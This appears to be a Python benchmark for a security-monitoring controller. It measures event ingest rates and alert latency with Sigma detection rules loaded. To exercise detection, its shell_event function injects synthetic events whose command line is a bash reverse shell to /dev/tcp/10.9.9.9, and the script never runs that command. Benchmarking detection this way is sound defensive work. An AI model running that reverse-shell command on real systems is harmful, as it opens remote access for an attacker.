"""Benchmark: controller ingest through ``StoreHooks`` with ≥ 100 Sigma rules loaded.

    .venv/bin/python bench/controller_ingest.py [--events 200000] [--batch 1000]
        [--variants 9] [--rate 1000] [--seconds 10] [--indexer]

Two measurements on a real SQLite store in a temporary directory:

1. sustained: batches go through ``commit_batch`` (store commit, live hub, detection queue)
   back to back; events/s counts until detection has drained every batch (so detection
   cannot fall behind unnoticed). ``--indexer`` runs the store's full-text indexer loop
   alongside, as the controller does, and events/s then counts until the indexer has caught
   up too (every event searchable and in the process table): the backlog it had when ingest
   finished and the rate ingest alone reached are printed next to it.
2. latency: at ``--rate`` events/s (20 batches per second), every batch carries one reverse
   shell exec; the time from handing the batch to ``commit_batch`` to the alert arriving at a
   live-hub subscriber (what the websocket handler forwards) gives p50/p99.

The event mix and rule variants come from bench/detection.py.
"""

from __future__ import annotations

import argparse
import asyncio
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent))

from detection import make_events, write_variants  # bench/detection.py

from backplane.messages import PROTOCOL_VERSION, Hello
from backplane.schema import Action, Tier, new_event
from controller.detection import DetectionEngine
from controller.hooks import StoreHooks
from controller.live import LiveHub, StreamFilter
from controller.maintenance import Intervals, Maintenance
from controller.metrics import Metrics
from controller.store import SQLiteStore

HOST = "bench-host"


def shell_event(n: int) -> dict[str, Any]:
    ev = new_event(Action.EXEC, host={"id": HOST}, tier=Tier.TRACEPOINT)
    ev["process"] = {"pid": 50_000 + n, "entity_id": f"rs{n}", "executable": "/usr/bin/bash",
                     "command_line": f"bash -i >& /dev/tcp/10.9.9.9/{1000 + n % 60000} 0>&1",
                     "parent": {"pid": 1, "entity_id": "init"}}
    ev["mark"] = n
    return ev


async def sustained(hooks: StoreHooks, events: list[dict[str, Any]], batch: int, seq0: int,
                    indexer: Maintenance | None) -> tuple[float, int]:
    t0 = time.perf_counter()
    seq = seq0
    for i in range(0, len(events), batch):
        seq += 1
        await hooks.commit_batch(HOST, seq, events[i:i + batch], 0)
    await hooks.drained()
    if indexer is None:
        return len(events) / (time.perf_counter() - t0), seq
    # An indexer that falls behind must show in the figure, not hide in a backlog.
    ingest_s = time.perf_counter() - t0
    backlog = hooks.store.pending_index_rows()
    while hooks.store.pending_index_rows():
        await asyncio.sleep(0.005)
    total_s = time.perf_counter() - t0
    print(f"  ingest alone: {len(events) / ingest_s:,.0f} events/s, leaving an indexer backlog "
          f"of {backlog:,} events, caught up {total_s - ingest_s:.2f} s later")
    return len(events) / total_s, seq


async def latency(hooks: StoreHooks, hub: LiveHub, background: list[dict[str, Any]],
                  rate: int, seconds: float, seq0: int) -> list[float]:
    per_tick = max(1, rate // 20)
    sub = hub.subscribe(StreamFilter.parse(kind="alert", text="10.9.9.9"), queue_size=100_000)
    sent: dict[int, float] = {}
    got: list[float] = []

    async def reader() -> None:
        while True:
            msg = await sub.next()
            mark = msg["data"]["event"].get("mark")
            if mark in sent:
                got.append(time.perf_counter() - sent.pop(mark))

    task = asyncio.create_task(reader())
    seq, pos = seq0, 0
    start = time.perf_counter()
    ticks = int(seconds * 20)
    for n, tick in enumerate(range(ticks)):
        target = start + tick / 20
        await asyncio.sleep(max(0.0, target - time.perf_counter()))
        chunk = [background[(pos + j) % len(background)] for j in range(per_tick - 1)]
        pos += per_tick - 1
        chunk.append(shell_event(n))
        sent[n] = time.perf_counter()
        seq += 1
        await hooks.commit_batch(HOST, seq, chunk, 0)
    await hooks.drained()
    await asyncio.sleep(0.2)
    task.cancel()
    sub.close()
    if sent:
        print(f"  {len(sent)} alerts never arrived", file=sys.stderr)
    return got


def pct(values: list[float], q: float) -> float:
    s = sorted(values)
    return s[min(len(s) - 1, int(q * len(s)))] * 1000


async def main_async(args: argparse.Namespace) -> int:
    with tempfile.TemporaryDirectory() as tmp:
        rules = Path(tmp) / "rules"
        rules.mkdir()
        write_variants(rules, args.variants)
        engine = DetectionEngine()
        report = engine.load([rules])
        print(f"rules: {report.summary()}")
        if len(report.loaded) < 100:
            print("fewer than 100 rules loaded", file=sys.stderr)
            return 1
        store = SQLiteStore(Path(tmp) / "controller.db")
        hub = LiveHub()
        hooks = StoreHooks(store, engine, hub, metrics=Metrics(), detection_queue=256)
        await hooks.start()
        await hooks.on_hello(HOST, Hello(PROTOCOL_VERSION, "1", "bench", "Linux", "6", {}, [],
                                         -1), "bench")
        maint = None
        if args.indexer:
            maint = Maintenance(store, live=hub, intervals=Intervals(index_idle=0.2))
            maint.start()
        events = make_events(args.events)
        for ev in events:
            ev["host"] = {"id": HOST}
        rate, seq = await sustained(hooks, events, args.batch, 0, maint)
        m = hooks.metrics
        print(f"sustained: {rate:,.0f} events/s through StoreHooks ({args.events:,} events, "
              f"batches of {args.batch}, {m.alerts} alerts, indexer "
              f"{'on, counted until caught up' if args.indexer else 'off'})")
        lat = await latency(hooks, hub, events, args.rate, args.seconds, seq)
        if lat:
            print(f"latency at {args.rate} events/s, commit_batch -> live subscriber: "
                  f"p50 {pct(lat, 0.5):.1f} ms, p99 {pct(lat, 0.99):.1f} ms, "
                  f"max {max(lat) * 1000:.1f} ms over {len(lat)} alerts "
                  f"(mean {statistics.mean(lat) * 1000:.1f} ms)")
        if maint is not None:
            print(f"  indexer backlog after latency run: {store.pending_index_rows():,} events")
            await maint.stop()
        await hooks.stop()
        store.close()
    return 0


def main() -> int:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    p.add_argument("--events", type=int, default=200_000)
    p.add_argument("--batch", type=int, default=1000)
    p.add_argument("--variants", type=int, default=9)
    p.add_argument("--rate", type=int, default=1000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--indexer", action="store_true")
    return asyncio.run(main_async(p.parse_args()))


if __name__ == "__main__":
    sys.exit(main())
